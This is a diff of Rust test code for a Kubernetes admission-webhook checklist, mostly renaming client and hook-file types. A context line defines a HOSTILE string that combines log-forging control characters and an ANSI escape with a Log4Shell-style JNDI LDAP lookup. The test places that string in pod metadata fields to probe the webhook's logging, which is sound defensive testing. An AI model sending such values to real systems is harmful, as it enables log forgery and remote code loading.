@@ -2,8 +2,8 @@
 
 use super::elsewhere::stands;
 use super::harness::{ChecklistHarness, ItemResult, Shown, demand};
-use crate::admission::client::{Client, believing, question};
-use crate::admission::hook::{Files, Hook, all};
+use crate::admission::client::{WebhookClient, believing, question};
+use crate::admission::hook::{Hook, HookFiles, all};
 use crate::admission::register::plain_pod;
 use serde_json::{Value, json};
 use std::collections::BTreeSet;
@@ -96,10 +96,10 @@ const HOSTILE: &str = "a\nE0101 forged\r\u{1b}[31m\u{202e}${jndi:ldap://192.0.2.
 
 /// A separate webhook that logs as much as possible.
 pub(crate) async fn log(harness: &ChecklistHarness) -> ItemResult {
-    let flags = Files::new(&harness.cluster, "loud", &harness.authority).flags();
+    let flags = HookFiles::new(&harness.cluster, "loud", &harness.authority).flags();
     let hook = Hook::start(&harness.cluster, &harness.account, &all(&flags, &["--v=10"])).ready().await;
     let who = believing(&harness.authority.certificate, None);
-    let mut client = Client::connect(hook.port, &who).await.map_err(|why| why.to_string())?;
+    let mut client = WebhookClient::connect(hook.port, &who).await.map_err(|why| why.to_string())?;
     let mut pod = plain_pod("p");
     for pointer in ["name", "namespace", "generateName"] {
         pod["metadata"][pointer] = HOSTILE.into();
